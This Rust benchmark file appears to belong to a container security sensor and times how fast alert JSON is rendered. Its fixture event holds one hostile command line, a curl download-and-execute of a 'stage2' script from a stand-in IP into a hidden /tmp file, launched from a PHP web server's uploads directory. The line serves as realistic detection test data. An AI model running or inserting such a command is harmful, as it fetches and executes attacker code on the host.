//! Cost of one alert document, before and after pre-rendering the rule's
//! static part (issue #9, item 9).
//!
//! - `before/*`: `build_alert` (normalise a copy of the event, add the
//!   rule's fields as `Value`s) then serialise the whole document — what
//!   every alert cost until the rule's part was pre-rendered.
//! - `after/*`: `AlertTemplate::render` — the event's JSON with the rule's
//!   pre-rendered `kibana`/`threat` text spliced in (byte-identical output).
//! - `*/value`: the event is already a `serde_json::Value` (replay, or a
//!   live event whose JSON a rule already needed).
//! - `*/live`: from the sensor's native event, as in the live sensor on a
//!   fresh event: `before` converts it to a `Value` (`EcsEvent::to_json`)
//!   first; `after` serialises it straight to sorted-key JSON
//!   (`AlertTemplate::render_native`, what `AlertWriter::write_alert_native`
//!   does); `after/live via to_json` is the template with the conversion.
//!
//! The event is shaped like a live exec in a Kubernetes container with a
//! 300-byte command line: the alert is ~3 KB with the seed rule's ATT&CK
//! mapping.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::hint::black_box;
use std::time::{Duration, SystemTime};

use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use sensor::ecs::{
    Action, ContainerFields, EcsEvent, HostFields, HostOs, OrchestratorFields,
    OrchestratorResource, ParentFields, ProcessFields,
};
use sensor::output::alert::{build_alert, AlertTemplate, NativeScratch};
use sensor::rules::RuleSet;

fn live_event() -> EcsEvent {
    let payload = format!(
        "curl -fsSL http://203.0.113.9/stage2.sh -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x {}",
        "--opt=value ".repeat(18)
    );
    let args = vec!["sh".to_owned(), "-c".to_owned(), payload];
    let process = ProcessFields {
        pid: 48213,
        name: "sh".into(),
        executable: Some("/usr/bin/dash".into()),
        args_count: args.len() as u32,
        command_line: args.join(" "),
        args,
        interactive: Some(false),
        entity_id: Some(
            "Y2U3ZjE0ZDItOWQ1Mi00MmQ4LTk2ZjAtMTIzNDU2Nzg5MGFiLTQ4MjEzLTEyMzQ1Njc4OQ".into(),
        ),
        start: Some("2026-11-26T10:00:00.123456789Z".into()),
        working_directory: Some("/var/www/html/uploads".into()),
        parent: Some(ParentFields {
            pid: 4004,
            name: Some("php-fpm8.2".into()),
            executable: Some("/usr/sbin/php-fpm8.2".into()),
            args: Some(vec!["php-fpm: pool www".to_owned()].into()),
            args_count: Some(1),
            command_line: Some("php-fpm: pool www".into()),
            interactive: Some(false),
            entity_id: Some(
                "Y2U3ZjE0ZDItOWQ1Mi00MmQ4LTk2ZjAtMTIzNDU2Nzg5MGFiLTQwMDQtOTg3NjU0".into(),
            ),
            start: Some("2026-11-26T09:00:00.000000001Z".into()),
            working_directory: Some("/var/www/html".into()),
        }),
        ..ProcessFields::default()
    };
    let host = HostFields {
        name: "node-7.cluster.example.com".into(),
        id: Some("ce7f14d29d5242d896f01234567890ab".into()),
        os: HostOs { os_type: "linux" },
    };
    let mut ev = EcsEvent::new(
        Action::Exec,
        SystemTime::UNIX_EPOCH + Duration::from_secs(1_795_000_000),
        "ce7f14d2-48213-1795000000123456789".into(),
        process,
        host,
        33,
        33,
    );
    ev.container = Some(ContainerFields {
        id: "3f4e1c2b9a8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f".into(),
        runtime: Some("containerd"),
        ..ContainerFields::default()
    });
    ev.orchestrator = Some(OrchestratorFields {
        orchestrator_type: "kubernetes",
        namespace: None,
        resource: OrchestratorResource {
            resource_type: "pod",
            id: Some("0f8e7d6c-5b4a-3928-1706-f5e4d3c2b1a0".into()),
            name: None,
        },
    });
    ev
}

fn bench(c: &mut Criterion) {
    let rules = RuleSet::embedded_default().expect("seed rule");
    let rule = &rules.rules()[0].meta;
    let template = AlertTemplate::new(rule);
    // `event` stays without its cached JSON (clones carry the cache).
    let event = live_event();
    let value = event.clone().to_json().clone();

    let mut before = Vec::with_capacity(8192);
    serde_json::to_writer(&mut before, &build_alert(&value, rule)).expect("serialise");
    let mut after = Vec::with_capacity(8192);
    template.render(&value, rule, &mut after).expect("render");
    assert!(before == after, "the template must give the same bytes");
    let mut native = Vec::with_capacity(8192);
    template
        .render_native(&event, &mut native, &mut NativeScratch::default())
        .expect("render");
    assert!(
        before == native,
        "native rendering must give the same bytes"
    );
    eprintln!("alert document: {} bytes", after.len());

    let mut g = c.benchmark_group("alert");
    let mut out = Vec::with_capacity(8192);
    g.bench_function("before/value", |b| {
        b.iter(|| {
            out.clear();
            serde_json::to_writer(&mut out, &build_alert(black_box(&value), rule)).expect("ok");
            black_box(out.len())
        })
    });
    g.bench_function("after/value", |b| {
        b.iter(|| {
            out.clear();
            template
                .render(black_box(&value), rule, &mut out)
                .expect("ok");
            black_box(out.len())
        })
    });
    g.bench_function("before/live", |b| {
        b.iter_batched_ref(
            || event.clone(),
            |ev| {
                out.clear();
                serde_json::to_writer(&mut out, &build_alert(ev.to_json(), rule)).expect("ok");
                black_box(out.len())
            },
            BatchSize::SmallInput,
        )
    });
    g.bench_function("after/live via to_json", |b| {
        b.iter_batched_ref(
            || event.clone(),
            |ev| {
                out.clear();
                template.render(ev.to_json(), rule, &mut out).expect("ok");
                black_box(out.len())
            },
            BatchSize::SmallInput,
        )
    });
    let mut scratch = NativeScratch::default();
    g.bench_function("after/live", |b| {
        b.iter(|| {
            out.clear();
            template
                .render_native(black_box(&event), &mut out, &mut scratch)
                .expect("ok");
            black_box(out.len())
        })
    });
    g.bench_function("template/new (once per rule)", |b| {
        b.iter(|| black_box(AlertTemplate::new(black_box(rule))))
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
